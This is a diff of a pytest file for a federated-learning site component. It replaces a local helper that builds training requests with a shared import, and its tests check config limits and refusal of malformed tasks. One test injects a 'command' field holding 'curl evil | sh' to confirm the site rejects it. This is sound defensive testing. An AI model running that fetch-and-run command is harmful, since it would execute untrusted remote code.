@@ -10,6 +10,7 @@ from fedsec.engines.nvflare.site_config import (
     load_site_config,
     write_site_config,
 )
+from tests.engines.nvflare.site_requests import train_request
 
 pytestmark = pytest.mark.usefixtures("site_files_read_once")
 
@@ -92,28 +93,8 @@ def test_site_config_defaults_are_conservative(consortium):
     assert config.limits.max_local_steps == 1000
 
 
-def _train_request(site, consortium, **plan_changes):
-    """A valid first-round request for ``site`` (in clear), from a coordinator's setup."""
-    from fedsec.engines.nvflare.coordinator import Coordinator
-    from fedsec.engines.nvflare.plan import DeploymentSettings, JobSpec
-    from fedsec.engines.nvflare.wire import params_to_wire
-
-    _, scenario = consortium
-
-    class One:
-        def exchange(self, task, data, targets, timeout):
-            return {site.name: site.handle(task, data)}
-
-    coordinator = Coordinator(
-        JobSpec.from_scenario(scenario, [], DeploymentSettings()), One(), [site.name]
-    )
-    params, setup, weights = coordinator.setup()
-    plan = coordinator.plan(1, 1, weights) | plan_changes
-    return {"plan": plan, "model": setup, "params": params_to_wire(params)}, len(setup["classes"])
-
-
 def test_class_weights_must_match_the_models_classes(site, consortium):
-    request, classes = _train_request(site, consortium)
+    request, classes = train_request(site, consortium)
     assert "params" in site.handle("fedsec_train", request)
     for length in (classes - 1, classes + 3):
         wrong = request | {"plan": request["plan"] | {"class_weights": [1.0] * length}}
@@ -130,7 +111,7 @@ def test_a_site_may_bound_the_learning_rate_lower(consortium):
         config.model_copy(update={"limits": config.limits.model_copy(update={"max_lr": 0.01})}),
         data,
     )
-    request, _ = _train_request(strict, consortium)
+    request, _ = train_request(strict, consortium)
     with pytest.raises(PlanRefused, match=r"training\.lr 0\.05 exceeds this site's limit 0\.01"):
         strict.handle("fedsec_train", request)
 
@@ -146,7 +127,7 @@ def test_every_task_a_job_may_send_has_one_handler(site):
 def test_a_malformed_training_task_is_refused_naming_the_field(site, consortium):
     """Typed on receipt: a field the task does not have, one missing, or arrays of the wrong
     kind are refused before anything runs, whatever the coordinator sends."""
-    request, _ = _train_request(site, consortium)
+    request, _ = train_request(site, consortium)
     with pytest.raises(PlanRefused, match="training task refused: unexpected field 'command'"):
         site.handle("fedsec_train", request | {"command": "curl evil | sh"})
     missing = {k: v for k, v in request.items() if k != "params"}
@@ -191,7 +172,7 @@ def test_a_site_trains_each_round_once_and_at_most_its_max_rounds(consortium):
     config = config_from_scenario(scenario, "plant", data, False)
     limits = config.limits.model_copy(update={"max_rounds": 2})
     site = Site(config.model_copy(update={"limits": limits}), data)
-    request, _ = _train_request(site, consortium)
+    request, _ = train_request(site, consortium)
     for round_ in (1, 2):
         plan = request["plan"] | {"round": round_, "rounds": 2}
         assert "params" in site.handle("fedsec_train", request | {"plan": plan})
@@ -208,7 +189,7 @@ def test_a_site_evaluates_one_model_per_job(consortium):
     read out quantiles of a chosen feature over the site's benign validation rows."""
     data, scenario = consortium
     site = Site(config_from_scenario(scenario, "plant", data, False), data)
-    request, _ = _train_request(site, consortium)
+    request, _ = train_request(site, consortium)
     evaluation = {k: request[k] for k in ("plan", "model", "params")} | {"target_fpr": 0.01}
     assert "validation" in site.handle("fedsec_evaluate", evaluation)
     with pytest.raises(PlanRefused, match="evaluates one model per job, and did"):
